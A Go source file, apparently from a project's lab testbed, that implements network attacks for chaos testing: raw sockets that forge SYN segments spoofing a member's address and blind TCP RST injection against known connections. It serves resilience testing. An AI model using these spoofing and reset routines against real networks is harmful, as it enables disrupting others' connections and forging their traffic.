// Package attack implements attacks by strangers (packets.go), a member that asks for too much (member.go), and a waypoint
// that grants what it does not have (waypoint.go). For lab/chaos only.
package attack

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"

	"golang.org/x/sys/unix"

	"github.com/detour-collective/dcol/internal/packet"
	"github.com/detour-collective/dcol/lab/testbed"
)

// ForgedWindow is the window of all forged SYNs, which identifies them on any link.
const ForgedWindow = 0xdc0f

// Segment is an IP packet with a TCP header and nothing behind it (RFC 791, RFC 8200, RFC 9293).
type Segment struct {
	From, To netip.AddrPort
	Seq      uint32
	Flags    packet.Flags
	Window   uint16
}

func (s Segment) bytes() ([]byte, error) {
	p := packet.Segment(s.From, s.To, packet.TCP{Seq: s.Seq, Flags: s.Flags, Window: s.Window}, nil)
	err := p.Seal()
	return p.Bytes(), err
}

// Raw sends packets from a host, whatever their source.
type Raw struct{ v4, v6 int }

// NewRaw opens a raw socket on a host.
func NewRaw(h *testbed.Host) (*Raw, error) {
	r, err := testbed.On(h, func() (*Raw, error) {
		const kind = unix.SOCK_RAW | unix.SOCK_CLOEXEC
		v4, err := unix.Socket(unix.AF_INET, kind, unix.IPPROTO_RAW)
		if err != nil {
			return nil, err
		}
		v6, err := unix.Socket(unix.AF_INET6, kind, unix.IPPROTO_RAW)
		if err != nil {
			return nil, errors.Join(err, unix.Close(v4))
		}
		return &Raw{v4, v6}, nil
	})
	if err != nil {
		return nil, fmt.Errorf("open raw sockets on %s: %w", h.Name(), err)
	}
	return r, nil
}

// Close closes the sockets.
func (r *Raw) Close() error { return errors.Join(unix.Close(r.v4), unix.Close(r.v6)) }

// Send sends a segment.
func (r *Raw) Send(s Segment) error {
	b, err := s.bytes()
	if err != nil {
		return fmt.Errorf("forge a segment: %w", err)
	}
	if to := s.To.Addr(); to.Is4() {
		err = unix.Sendto(r.v4, b, 0, &unix.SockaddrInet4{Addr: to.As4()})
	} else {
		err = unix.Sendto(r.v6, b, 0, &unix.SockaddrInet6{Addr: to.As16()})
	}
	if err != nil && !errors.Is(err, unix.ENOBUFS) {
		return fmt.Errorf("send a forged segment: %w", err)
	}
	return nil
}

// ForgeSYNs sends SYNs that claim to come from a member, to each of the ports that its detours use.
func ForgeSYNs(r *Raw, member netip.Addr, at []netip.AddrPort) error {
	for _, to := range at {
		for range 20 {
			from := netip.AddrPortFrom(member, uint16(1024+rand.IntN(60000)))
			if err := r.Send(Segment{From: from, To: to, Seq: rand.Uint32(), Flags: packet.SYN, Window: ForgedWindow}); err != nil {
				return err
			}
		}
	}
	return nil
}

// Flow is a connection whose addresses and ports a stranger knows.
type Flow struct{ From, To netip.AddrPort }

// BlindRSTs sends resets of connections with random sequence numbers.
func BlindRSTs(r *Raw, flows []Flow) error {
	for _, f := range flows {
		for range 20 {
			for _, flags := range []packet.Flags{packet.RST, packet.RST | packet.ACK} {
				if err := r.Send(Segment{From: f.From, To: f.To, Seq: rand.Uint32(), Flags: flags}); err != nil {
					return err
				}
			}
		}
	}
	return nil
}
